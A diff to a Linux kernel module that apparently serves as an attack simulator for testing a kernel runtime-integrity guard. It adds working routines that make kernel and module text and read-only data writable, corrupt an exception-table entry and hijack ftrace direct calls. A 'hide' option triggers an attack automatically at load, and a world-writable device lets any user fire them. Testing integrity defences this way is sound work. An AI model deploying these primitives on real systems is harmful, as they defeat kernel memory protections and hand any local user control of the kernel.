@@ -140,6 +140,14 @@ static bool insecure;
 module_param(insecure, bool, 0400);
 MODULE_PARM_DESC(insecure, "Load although every user then owns the machine");
 
+static char *hide;
+module_param(hide, charp, 0400);
+MODULE_PARM_DESC(hide, "The attack by which the module hides before it is asked");
+
+static uint hide_after;
+module_param(hide_after, uint, 0400);
+MODULE_PARM_DESC(hide_after, "So many seconds later, or else while it is loaded");
+
 /* The last change of text or read-only data: "symbol+offset/size: old -> new" */
 static char changed[KSYM_SYMBOL_LEN + 128];
 module_param_string(changed, changed, sizeof(changed), 0444);
@@ -1405,6 +1413,25 @@ static int flip_module_rodata(struct task_struct *task, size_t field)
 	return flip(&module_rodata_change, (void *)lkrg_attack_constant, 1, 0x01);
 }
 
+static int flip_module_extable(struct task_struct *task, size_t field)
+{
+	const unsigned long rodata = (unsigned long)THIS_MODULE->mem[MOD_RODATA].base;
+	struct change *const change = &module_rodata_change;
+	const u8 *at;
+	int err;
+
+	if (!THIS_MODULE->num_exentries)
+		return -EOPNOTSUPP;
+	at = (u8 *)&THIS_MODULE->extable[THIS_MODULE->num_exentries - 1].fixup;
+	err = flip(change, (void *)at, 1, 0x01);
+	/* There is no symbol before it. */
+	if (!err)
+		snprintf(changed, sizeof(changed), "rodata+%#lx [%s]: %*ph -> %*ph",
+			 (unsigned long)at - (rodata & PAGE_MASK), KBUILD_MODNAME, 1,
+			 change->old, 1, at);
+	return err;
+}
+
 static int restore_module_rodata(struct task_struct *task, size_t field)
 {
 	return restore(&module_rodata_change);
@@ -1642,6 +1669,11 @@ static int map_text_writable(struct task_struct *task, size_t field)
 	return change_entry((unsigned long)victim_text(), _PAGE_RW, 0);
 }
 
+static int map_rodata_writable(struct task_struct *task, size_t field)
+{
+	return change_entry((unsigned long)&hex_asc_upper[0xa], _PAGE_RW, 0);
+}
+
 static int map_module_text_writable(struct task_struct *task, size_t field)
 {
 	return change_entry((unsigned long)lkrg_attack_idle, _PAGE_RW, 0);
@@ -1650,6 +1682,39 @@ static int map_module_text_writable(struct task_struct *task, size_t field)
 static int map_module_rodata_executable(struct task_struct *task, size_t field)
 {
 	return change_entry((unsigned long)lkrg_attack_constant, 0, _PAGE_NX);
+}
+
+static int map_module_rodata_writable(struct task_struct *task, size_t field)
+{
+	return change_entry((unsigned long)lkrg_attack_constant, _PAGE_RW, 0);
+}
+
+static int map_module_late_writable(struct task_struct *task, size_t field)
+{
+	return change_entry((unsigned long)lkrg_attack_late, _PAGE_RW, 0);
+}
+
+/* The same memory, where all memory is mapped */
+static unsigned long linear_address(void *at)
+{
+	return (unsigned long)(is_vmalloc_or_module_addr(at) ?
+		page_address(vmalloc_to_page(at)) + offset_in_page(at) :
+		__va(__pa_symbol(at)));
+}
+
+static int map_text_linear_writable(struct task_struct *task, size_t field)
+{
+	return change_entry(linear_address(victim_text()), _PAGE_RW, 0);
+}
+
+static int map_rodata_linear_writable(struct task_struct *task, size_t field)
+{
+	return change_entry(linear_address((void *)&hex_asc_upper[0xa]), _PAGE_RW, 0);
+}
+
+static int map_module_text_linear_writable(struct task_struct *task, size_t field)
+{
+	return change_entry(linear_address(lkrg_attack_idle), _PAGE_RW, 0);
 }
 
 static ulong set_memory_rox_at;
@@ -2261,6 +2326,7 @@ enum {
 	HOOK_FTRACE,
 	HOOK_FTRACE_PAGE,
 	HOOK_TRAMPOLINE,
+	HOOK_DIRECT,
 	HOOK_KPROBE,
 	HOOK_KPROBE_PAGE,
 	HOOK_AGGREGATED,
@@ -2286,10 +2352,17 @@ enum {
  */
 #if defined(CONFIG_KRETPROBE_ON_RETHOOK) && defined(CONFIG_FPROBE) && \
 	defined(CONFIG_FUNCTION_GRAPH_TRACER) && defined(CONFIG_LIVEPATCH) && \
-	defined(CONFIG_UPROBES) && defined(CONFIG_HAVE_STATIC_CALL_INLINE)
+	defined(CONFIG_UPROBES) && defined(CONFIG_HAVE_STATIC_CALL_INLINE) && \
+	defined(CONFIG_DYNAMIC_FTRACE_WITH_DIRECT_CALLS)
 static void notrace hooked_trace(unsigned long ip, unsigned long parent_ip,
 				 struct ftrace_ops *ops, struct ftrace_regs *regs)
 {
+}
+
+/* Called as a function is by which others are traced */
+static notrace __used __attribute__((__naked__)) void hooked_direct(void)
+{
+	asm volatile(ASM_RET);
 }
 
 static int hooked_probe(struct kprobe *probe, struct pt_regs *regs)
@@ -2412,6 +2485,10 @@ static struct ftrace_ops hook_ops = {
 	.flags = FTRACE_OPS_FL_SAVE_REGS,
 };
 
+/* Beside the others what it calls is no part of an instruction. */
+static struct ftrace_ops hook_direct;
+static void *direct_to = hooked_direct;
+
 /* The last two are at one place. */
 static struct kprobe hook_kprobes[] = {
 	{ .symbol_name = "kernel_power_off", .pre_handler = hooked_probe },
@@ -2527,6 +2604,17 @@ static void unregister_uprobe(void)
 	path_put(&hook_file);
 }
 
+static int register_direct(void)
+{
+	return ftrace_set_filter_ip(&hook_direct, (unsigned long)kernel_halt, 0, 0) ?:
+	       register_ftrace_direct(&hook_direct, (unsigned long)direct_to);
+}
+
+static void unregister_direct(void)
+{
+	unregister_ftrace_direct(&hook_direct, (unsigned long)direct_to, false);
+}
+
 static bool hooks_registered;
 
 /* What is beside kprobes and function tracing */
@@ -2549,9 +2637,14 @@ static int register_others(void)
 	if (err)
 		goto unregister_livepatch;
 	err = register_graph();
+	if (err)
+		goto unregister_uprobe;
+	err = register_direct();
 	if (!err)
 		return 0;
 
+	unregister_graph();
+unregister_uprobe:
 	unregister_uprobe();
 unregister_livepatch:
 	unregister_livepatch();
@@ -2562,6 +2655,7 @@ unregister_fprobe:
 
 static void unregister_others(void)
 {
+	unregister_direct();
 	unregister_graph();
 	unregister_uprobe();
 	unregister_livepatch();
@@ -2637,6 +2731,7 @@ static int unregister_hooks(struct task_struct *task, size_t field)
 static void free_hooks(void)
 {
 	ftrace_free_filter(&hook_ops);
+	ftrace_free_filter(&hook_direct);
 	ftrace_free_filter(&hook_livepatch.fops);
 }
 
@@ -2648,7 +2743,8 @@ static int lead_hook(void *place, const char *name, bool to_page)
 	unsigned long to = (unsigned long)changed;
 
 	if (to_page) {
-		hook_page = vmalloc(PAGE_SIZE);
+		if (!hook_page)
+			hook_page = vmalloc(PAGE_SIZE);
 		if (!hook_page)
 			return -ENOMEM;
 		to = (unsigned long)hook_page;
@@ -2666,14 +2762,18 @@ static int lead_hook(void *place, const char *name, bool to_page)
 
 static int restore_hook(struct task_struct *task, size_t field)
 {
+	int err;
+
 	if (!hook_changed)
 		return -ENOENT;
 	WRITE_ONCE(*hook_changed, hook_before);
 	hook_changed = NULL;
+	err = unregister_hooks(task, field);
+	direct_to = hooked_direct;
 	vfree(hook_page);
 	hook_page = NULL;
 	changed[0] = '\0';
-	return unregister_hooks(task, field);
+	return err;
 }
 
 /* At a place where nobody comes by */
@@ -2741,9 +2841,16 @@ static int change_hook(struct task_struct *task, size_t which)
 
 	if (hook_changed)
 		return -EBUSY;
+	/* This one ftrace is asked to call, and nobody overwrites it afterwards. */
+	if (which == HOOK_DIRECT) {
+		hook_page = vmalloc(PAGE_SIZE);
+		if (!hook_page)
+			return -ENOMEM;
+		direct_to = hook_page;
+	}
 	err = register_hooks(task, 0);
 	if (err)
-		return err;
+		goto free_page;
 	switch (which) {
 	case HOOK_FTRACE:
 	case HOOK_FTRACE_PAGE:
@@ -2751,6 +2858,9 @@ static int change_hook(struct task_struct *task, size_t which)
 		break;
 	case HOOK_TRAMPOLINE:
 		err = lead_hook(&hook_ops.trampoline, "trampoline", false);
+		break;
+	case HOOK_DIRECT:
+		err = lead_hook(&hook_direct.direct_call, "direct_call", true);
 		break;
 	case HOOK_KPROBE:
 	case HOOK_KPROBE_PAGE:
@@ -2804,8 +2914,13 @@ static int change_hook(struct task_struct *task, size_t which)
 		err = lead_hook(&STATIC_CALL_KEY(lkrg_attack_call).func, "func", false);
 		break;
 	}
-	if (err)
-		unregister_hooks(task, 0);
+	if (!err)
+		return 0;
+	unregister_hooks(task, 0);
+free_page:
+	direct_to = hooked_direct;
+	vfree(hook_page);
+	hook_page = NULL;
 	return err;
 }
 
@@ -4653,8 +4768,19 @@ static const struct attack attacks[] = {
 	ATTACK("rodata-vdso", flip_vdso, "what is mapped as vDSO"),
 	ATTACK("rodata-restore", restore_rodata, "the data as it was"),
 	ATTACK("mapping-text", map_text_writable, "kernel text writable"),
+	ATTACK("mapping-rodata", map_rodata_writable, "read-only data writable"),
+	ATTACK("mapping-text_linear", map_text_linear_writable,
+	       "kernel text, where all memory is mapped"),
+	ATTACK("mapping-rodata_linear", map_rodata_linear_writable,
+	       "read-only data, where all memory is mapped"),
 	ATTACK("mapping-module_text", map_module_text_writable,
 	       "module text writable"),
+	ATTACK("mapping-module_text_linear", map_module_text_linear_writable,
+	       "module text, where all memory is mapped"),
+	ATTACK("mapping-module_rodata_writable", map_module_rodata_writable,
+	       "read-only data of a module writable"),
+	ATTACK("mapping-module_late", map_module_late_writable,
+	       "what is read-only after init of a module"),
 	ATTACK("mapping-module_rodata", map_module_rodata_executable,
 	       "read-only data of a module executable"),
 	ATTACK("mapping-frame", map_module_text_elsewhere, "module text elsewhere"),
@@ -4686,6 +4812,8 @@ static const struct attack attacks[] = {
 	ATTACK("module_text-restore", restore_module_text, "the text as it was"),
 	ATTACK("module_rodata-flip", flip_module_rodata,
 	       "one byte of read-only data of a module"),
+	ATTACK("module_rodata-extable", flip_module_extable,
+	       "an entry of the exception table of a module"),
 	ATTACK("module_rodata-restore", restore_module_rodata,
 	       "the data as it was"),
 	ATTACK("module_late-flip", flip_module_late,
@@ -4756,6 +4884,7 @@ static const struct attack attacks[] = {
 	HOOK("ftrace", HOOK_FTRACE, "function tracing"),
 	HOOK("ftrace-page", HOOK_FTRACE_PAGE, "the same"),
 	HOOK("trampoline", HOOK_TRAMPOLINE, "its trampoline"),
+	HOOK("direct", HOOK_DIRECT, "what is called without a trampoline"),
 	HOOK("kprobe", HOOK_KPROBE, "a kprobe"),
 	HOOK("kprobe-page", HOOK_KPROBE_PAGE, "the same"),
 	HOOK("aggregated", HOOK_AGGREGATED, "one of two kprobes at one place"),
@@ -4916,29 +5045,31 @@ static int run_attack(const struct attack *attack)
 	return err;
 }
 
+static int run_named(const char *name)
+{
+	size_t i;
+
+	for (i = 0; i < ARRAY_SIZE(attacks); i++) {
+		if (sysfs_streq(name, attacks[i].name))
+			return run_attack(&attacks[i]);
+	}
+	return -EINVAL;
+}
+
 static ssize_t attack_write(struct file *file, const char __user *buf,
 			    size_t count, loff_t *ppos)
 {
-	size_t i;
 	char *name;
-	ssize_t ret = -EINVAL;
+	int err;
 
 	if (count > NAME_MAX)
 		return -EINVAL;
 	name = memdup_user_nul(buf, count);
 	if (IS_ERR(name))
 		return PTR_ERR(name);
-
-	for (i = 0; i < ARRAY_SIZE(attacks); i++) {
-		if (sysfs_streq(name, attacks[i].name)) {
-			ret = run_attack(&attacks[i]);
-			if (!ret)
-				ret = count;
-			break;
-		}
-	}
+	err = run_named(name);
 	kfree(name);
-	return ret;
+	return err ?: count;
 }
 
 static int attack_show(struct seq_file *m, void *v)
@@ -4973,6 +5104,16 @@ static struct miscdevice attack_device = {
 	.mode = 0666,
 };
 
+static void hide_now(struct work_struct *work)
+{
+	int err = run_named(hide);
+
+	if (err)
+		pr_err("%s: %d\n", hide, err);
+}
+
+static DECLARE_DELAYED_WORK(hide_work, hide_now);
+
 static int __init attack_init(void)
 {
 	int err;
@@ -4988,12 +5129,17 @@ static int __init attack_init(void)
 
 	pr_warn("every user of this machine can change its kernel through /dev/%s\n",
 		attack_device.name);
+	if (hide && hide_after)
+		schedule_delayed_work(&hide_work, hide_after * HZ);
+	else if (hide)
+		hide_now(NULL);
 	return 0;
 }
 
 static void __exit attack_exit(void)
 {
 	misc_deregister(&attack_device);
+	cancel_delayed_work_sync(&hide_work);
 	cancel_delayed_work_sync(&stay_work);
 	end_ambushes();
 	stop_sleeper(NULL, 0);
